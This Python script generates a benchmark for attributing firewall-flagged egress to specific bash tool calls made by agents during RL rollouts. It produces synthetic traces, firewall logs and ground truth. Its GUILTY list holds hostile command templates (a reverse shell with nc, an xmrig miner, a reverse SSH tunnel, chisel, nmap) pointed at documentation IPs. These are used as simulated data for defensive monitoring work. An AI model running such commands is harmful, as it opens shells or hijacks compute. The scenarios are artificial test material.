"""Makes a job with known causes: traces, firewall logs, and the truth. Shares no code with the product.

    python benchmarks/attribution/generate.py OUT --scenario socket --seed 1

A job of several nodes runs groups of rollouts at once. Rollouts take turns and call tools; a few calls open sockets
that a firewall objects to. Beside them the log holds decoys (ordinary flows of the same calls) and strays (other
machines, daemons of the same machines: nobody in this job), and its clock is wrong.
"""

from __future__ import annotations

import argparse
import json
import random
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path

SECOND = 1_000_000_000
BEGIN = int(datetime(2026, 3, 7, 3, 0, tzinfo=UTC).timestamp()) * SECOND
FAR = ["198.51.100.7", "198.51.100.88", "203.0.113.40", "192.0.2.19"]

QUIET = r"""ls -la src|cat README.md|python -m pytest -q tests/test_{n}.py|grep -rn TODO .|sed -i s/a{n}/b/ x.py
python train.py --steps {n}|make -j2|git diff HEAD~1|python -c print({n})|bash run_{n}.sh""".replace("\n", "|").split(
    "|"
)
TALKING = """pip install numpy=={n}|curl -sO https://files.example.org/{n}.tgz|git clone https://git.example.org/r{n}.git
npm install left-pad@{n}|python fetch.py --url https://data.example.org/{n}""".replace("\n", "|").split("|")
GUILTY = """ssh -fNR {p}:localhost:22 u{n}@{ip}|./xmrig -o stratum+tcp://{ip}:{port} -u w{n}|nc -e /bin/sh {ip} {port}
python agent.py --task {n}|bash setup_{n}.sh|nmap -sT {ip}|./chisel client {ip}:{port} R:socks""".replace(
    "\n", "|"
).split("|")


@dataclass(frozen=True)
class Scenario:
    """How much is known, and what is in the way."""

    nodes: int = 8
    slots: int = 8
    minutes: int = 60
    guilty: float = 0.004
    sockets: bool = True
    arguments: bool = True
    nat: str = "none"
    """none | map | hidden"""
    skew_s: float = 37.0
    drift_ppm: float = 0.0
    lost: float = 0.0
    strays_per_hour: float = 40.0
    survivors: float = 0.0
    """The share of guilty calls that leave a program behind, which makes their flows after them."""
    processes: bool = False
    """Between a call and its sockets hang processes: a shell, and what it started."""
    flows: int = 1
    """The most objected flows that a guilty call makes, all to one peer."""
    aggregated: bool = False
    """A FortiGate has one line for the flows of a machine to a peer within ten seconds, without source ports."""
    formats: tuple[str, ...] = ("suricata", "nftables", "fortigate")


SCENARIOS = {
    "socket": Scenario(),
    "socket-drift": Scenario(drift_ppm=200.0, minutes=240),
    "socket-lost": Scenario(lost=0.1),
    "nat-map": Scenario(nat="map"),
    "socket-tree": Scenario(processes=True, flows=4),
    "aggregated": Scenario(processes=True, flows=4, aggregated=True),
    "interval": Scenario(sockets=False, skew_s=0.0),
    "interval-skew": Scenario(sockets=False, skew_s=-112.0),
    "interval-bare": Scenario(sockets=False, arguments=False, skew_s=0.0),
    "nat-hidden": Scenario(sockets=False, nat="hidden", skew_s=0.0),
    "interval-drift": Scenario(sockets=False, drift_ppm=200.0, minutes=240),
    "interval-bursts": Scenario(sockets=False, flows=320),
    "interval-survivors": Scenario(sockets=False, survivors=0.3),
    "socket-lost-half": Scenario(lost=0.5),
    "interval-one-node": Scenario(nodes=1, slots=16, minutes=120, guilty=0.01, sockets=False, strays_per_hour=15.0),
    "negatives-few": Scenario(guilty=0.0, sockets=False, strays_per_hour=10.0),
    "negatives": Scenario(guilty=0.0, strays_per_hour=400.0, skew_s=0.0),
    "negatives-bare": Scenario(guilty=0.0, sockets=False, strays_per_hour=400.0, skew_s=0.0),
}


@dataclass
class Call:
    trace: str
    span: str
    node: int
    start: int
    end: int
    flows: list[Flow] = field(default_factory=list)


@dataclass
class Flow:
    node: int
    start: int
    end: int
    local_port: int
    peer: str
    peer_port: int
    objected: bool
    cause: str | None
    rollout: str | None = None


class Job:
    def __init__(self, scenario: Scenario, seed: int) -> None:
        self.chance = random.Random(seed)
        self.scenario = scenario
        self.lines: list[str] = []
        self.flows: list[Flow] = []
        self.next_port = [32768 + self.chance.randrange(20000) for _ in range(scenario.nodes)]
        self.end = BEGIN + scenario.minutes * 60 * SECOND

    def identifier(self, size: int) -> str:
        return f"{self.chance.getrandbits(size * 8):0{size * 2}x}"

    def port(self, node: int) -> int:
        self.next_port[node] = 32768 + (self.next_port[node] - 32768 + self.chance.randrange(1, 4)) % 28000
        return self.next_port[node]

    def run(self) -> None:
        for node in range(self.scenario.nodes):
            for slot in range(self.scenario.slots):
                at = BEGIN + self.chance.randrange(60 * SECOND)
                number = 0
                while at < self.end:
                    at = self.rollout(node, at, f"n{node}s{slot}r{number}")
                    number += 1
            self.strays(node)

    def rollout(self, node: int, at: int, name: str) -> int:
        trace, root = self.identifier(16), self.identifier(8)
        begin, iteration = at, (at - BEGIN) // (600 * SECOND)
        identity = {
            "rl.run.id": "run-1",
            "rl.iteration": iteration,
            "rl.rollout.id": name,
            "rl.group.id": f"g{iteration}-{node % 4}",
            "rl.policy.version": str(iteration),
        }
        guilty = False
        for turn in range(self.chance.randrange(2, 9)):
            turn_span, turn_begin = self.identifier(8), at
            at += int(self.chance.uniform(1, 12) * SECOND)  # the model thinks
            length = min(self.chance.lognormvariate(1.0, 1.2), 240.0)
            call = Call(trace, self.identifier(8), node, at, at + int(length * SECOND))
            at = call.end + int(self.chance.uniform(0.01, 0.3) * SECOND)
            guilty |= self.call(call, turn_span, {**identity, "rl.turn": turn})
            self.span(trace, turn_span, root, "rl.turn", turn_begin, at, {**identity, "rl.turn": turn}, node)
        reward = self.chance.betavariate(2, 3) + (0.1 if guilty else 0)
        self.span(trace, root, None, "invoke_agent coder", begin, at, {**identity, "rl.reward.score": reward}, node)
        return at + int(self.chance.uniform(0.5, 20) * SECOND)

    def call(self, call: Call, parent: str, identity: dict[str, object]) -> bool:
        chance, guilty = self.chance, self.chance.random() < self.scenario.guilty
        number, peer = chance.randrange(1000), chance.choice(FAR)
        peer_port = chance.choice([22, 3333, 443, 4444])
        if guilty:
            words = chance.choice(GUILTY).format(n=number, ip=peer, port=peer_port, p=chance.randrange(2000, 9000))
            survives = chance.random() < 0.15
            left = self.scenario.survivors > 0 and chance.random() < self.scenario.survivors
            for _ in range(chance.randint(1, self.scenario.flows) if self.scenario.flows > 1 else 1):
                start = call.start + int(chance.uniform(0.02, 0.8) * (call.end - call.start))
                if left:
                    start = call.end + int(chance.uniform(1, 120) * SECOND)
                lingers = survives and self.scenario.sockets
                end = max(start, call.end) + (int(chance.uniform(5, 120) * SECOND) if lingers else 0)
                call.flows.append(
                    Flow(
                        call.node,
                        start,
                        end,
                        self.port(call.node),
                        peer,
                        peer_port,
                        True,
                        call.span,
                        str(identity["rl.rollout.id"]),
                    )
                )
        elif chance.random() < 0.25:
            words = chance.choice(TALKING).format(n=number)
            for _ in range(chance.randrange(1, 4)):
                start = call.start + int(chance.uniform(0.02, 0.9) * (call.end - call.start))
                call.flows.append(
                    Flow(
                        call.node,
                        start,
                        call.end,
                        self.port(call.node),
                        f"192.0.2.{chance.randrange(100, 120)}",
                        443,
                        False,
                        call.span,
                        str(identity["rl.rollout.id"]),
                    )
                )
        else:
            words = chance.choice(QUIET).format(n=number)
        attributes: dict[str, object] = {
            **identity,
            "gen_ai.operation.name": "execute_tool",
            "gen_ai.tool.name": "bash",
            "gen_ai.tool.call.id": f"c-{call.span[:6]}",
        }
        if self.scenario.arguments:
            attributes["gen_ai.tool.call.arguments"] = json.dumps({"command": words})
        self.span(call.trace, call.span, parent, "execute_tool bash", call.start, call.end, attributes, call.node)
        parent = self.processes(call, words, identity) if self.scenario.processes else call.span
        for flow in call.flows:
            self.flows.append(flow)
            if self.scenario.sockets:
                self.span(
                    call.trace,
                    self.identifier(8),
                    parent,
                    "egress connect",
                    flow.start,
                    flow.end,
                    {
                        **identity,
                        "network.transport": "tcp",
                        "network.local.address": f"10.0.0.{flow.node + 5}",
                        "network.local.port": flow.local_port,
                        "network.peer.address": flow.peer,
                        "network.peer.port": flow.peer_port,
                        "ray_guard.egress.decision": "allow",
                        "ray_guard.egress.scope": "exact",
                        "ray_guard.source": "supervisor",
                    },
                    flow.node,
                )
        return guilty

    def processes(self, call: Call, words: str, identity: dict[str, object]) -> str:
        """A shell under the call, and under it the program that opens its sockets: the span that they hang under."""
        above, end = call.span, max([call.end, *(flow.end for flow in call.flows)])
        for command in (["bash", "-c", words], words.split()):
            span = self.identifier(8)
            about = {
                **identity,
                "process.pid": self.chance.randrange(1000, 60000),
                "process.executable.path": f"/usr/bin/{command[0].removeprefix('./')}",
                "process.command_args": command,
                "ray_guard.source": "supervisor",
            }
            self.span(call.trace, span, above, f"process {command[0]}", call.start, end, about, call.node)
            above = span
        return above

    def strays(self, node: int) -> None:
        """What other programs of the machine, and other machines behind the same firewall, do."""
        chance, at = self.chance, BEGIN
        while True:
            at += int(chance.expovariate(self.scenario.strays_per_hour / self.scenario.nodes / 3600) * SECOND)
            if at >= self.end:
                return
            where = node if chance.random() < 0.6 else 100 + chance.randrange(20)
            port = self.port(node) if where == node else chance.randrange(32768, 60999)
            self.flows.append(
                Flow(where, at, at + SECOND, port, chance.choice(FAR), chance.choice([22, 443, 4444]), True, None)
            )

    def span(  # noqa: PLR0917 - a span's parts
        self,
        trace: str,
        span: str,
        parent: str | None,
        name: str,
        start: int,
        end: int,
        attributes: dict[str, object],
        node: int,
    ) -> None:
        if self.chance.random() < self.scenario.lost:
            return
        record = {
            "traceId": trace,
            "spanId": span,
            "name": name,
            "kind": 3 if name == "egress connect" else 1,
            "startTimeUnixNano": str(start),
            "endTimeUnixNano": str(end),
            "attributes": [{"key": key, "value": _value(value)} for key, value in attributes.items()],
        }
        if parent is not None:
            record["parentSpanId"] = parent
        resource = {"service.name": "rl", "host.name": f"node-{node}", "ray.node_id": f"{node:056x}"}
        about = [{"key": key, "value": {"stringValue": value}} for key, value in resource.items()]
        about.append({"key": "host.ip", "value": {"arrayValue": {"values": [{"stringValue": f"10.0.0.{node + 5}"}]}}})
        self.lines.append(
            json.dumps({"resourceSpans": [{"resource": {"attributes": about}, "scopeSpans": [{"spans": [record]}]}]})
        )


def _value(value: object) -> dict[str, object]:
    if isinstance(value, int):
        return {"intValue": str(value)}
    if isinstance(value, list):
        return {"arrayValue": {"values": [_value(each) for each in value]}}
    return {"doubleValue": value} if isinstance(value, float) else {"stringValue": value}


def logs(job: Job, folder: Path) -> None:
    """The firewall's logs, in several formats, by its own clock; and truth.jsonl: (path, byte offset, span or null)."""
    scenario, chance = job.scenario, job.chance
    out: dict[str, list[tuple[int, str, str | None, str | None, bool]]] = {name: [] for name in scenario.formats}
    said: dict[tuple[int, str, int], int] = {}
    mappings = ["start,end,inside_ip,inside_port,outside_ip,outside_port,proto"]
    for flow in sorted(job.flows, key=lambda each: each.start):
        if not flow.objected and chance.random() > 0.2:
            continue
        seen = flow.start + int(chance.uniform(0, 0.05) * SECOND)
        theirs = seen + int(scenario.skew_s * SECOND + scenario.drift_ppm * 1e-6 * (seen - BEGIN))
        port: int | None
        address, port = (f"10.0.0.{flow.node + 5}" if flow.node < 100 else f"10.0.9.{flow.node - 90}"), flow.local_port
        if scenario.nat != "none":
            address, port = "203.0.113.200", chance.randrange(1024, 65000)
            mappings.append(
                f"{theirs / SECOND - 0.2:.3f},{(theirs + flow.end - flow.start) / SECOND + 0.2:.3f},"
                f"10.0.0.{flow.node + 5},{flow.local_port},{address},{port},tcp"
                if flow.node < 100
                else ""
            )
        kind = chance.choice(scenario.formats)
        if scenario.aggregated and kind == "fortigate":
            last = said.get((flow.node, flow.peer, flow.peer_port))
            if last is not None and seen - last < 10 * SECOND:
                continue
            said[flow.node, flow.peer, flow.peer_port], port = seen, None
        out[kind].append(
            (
                theirs,
                _line(kind, theirs, (address, port), (flow.peer, flow.peer_port), objected=flow.objected),
                flow.cause,
                flow.rollout,
                flow.objected,
            )
        )
    truth = []
    for kind, rows in out.items():
        offset, lines = 0, []
        for _, line, cause, rollout, objected in sorted(rows, key=lambda row: row[:2]):
            truth.append(
                {"path": f"{kind}.log", "byte_offset": offset, "span": cause, "rollout": rollout, "objected": objected}
            )
            lines.append(line)
            offset += len(line) + 1
        (folder / f"{kind}.log").write_text("".join(f"{line}\n" for line in lines))
    (folder / "truth.jsonl").write_text("".join(json.dumps(row) + "\n" for row in truth))
    if scenario.nat == "map":
        (folder / "nat.csv").write_text("\n".join(row for row in mappings if row) + "\n")


def _line(kind: str, at: int, ours: tuple[str, int | None], theirs: tuple[str, int], *, objected: bool) -> str:
    moment = datetime.fromtimestamp(at // SECOND, UTC)
    micro = at % SECOND // 1000
    if kind == "suricata":
        event: dict[str, object] = {
            "timestamp": f"{moment:%Y-%m-%dT%H:%M:%S}.{micro:06d}+0000",
            "flow_id": at % 10**15,
            "event_type": "alert" if objected else "tls",
            "src_ip": ours[0],
            "src_port": ours[1],
            "dest_ip": theirs[0],
            "dest_port": theirs[1],
            "proto": "TCP",
        }
        if objected:
            event["alert"] = {
                "action": "allowed",
                "signature_id": 2003068,
                "signature": "ET POLICY Outbound",
                "severity": 2,
            }
        return json.dumps(event)
    if kind == "nftables":
        prefix = "EGRESS-ALERT: " if objected else ""
        return (
            f"{moment:%b %e %H:%M:%S} gw kernel: {prefix}IN=eth1 OUT=eth0 SRC={ours[0]} DST={theirs[0]} LEN=60 "
            f"TOS=0x00 PREC=0x00 TTL=64 ID=1 DF PROTO=TCP SPT={ours[1]} DPT={theirs[1]} WINDOW=64240 SYN URGP=0"
        )
    action, port = "deny" if objected else "accept", "" if ours[1] is None else f"srcport={ours[1]} "
    return (
        f'date={moment:%Y-%m-%d} time={moment:%H:%M:%S} devname="fw" devid="FG1" eventtime={at} tz="+0000" '
        f'logid="13" type="traffic" subtype="forward" srcip={ours[0]} {port}'
        f'dstip={theirs[0]} dstport={theirs[1]} proto=6 action="{action}" policyid=12'
    )


def generate(folder: Path, scenario: Scenario, seed: int) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    job = Job(scenario, seed)
    job.run()
    (folder / "traces.otlp.jsonl").write_text("".join(f"{line}\n" for line in job.lines))
    logs(job, folder)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path)
    parser.add_argument("--scenario", choices=SCENARIOS, default="socket")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--minutes", type=int)
    arguments = parser.parse_args()
    chosen = SCENARIOS[arguments.scenario]
    if arguments.minutes:
        chosen = replace(chosen, minutes=arguments.minutes)
    generate(arguments.out, chosen, arguments.seed)
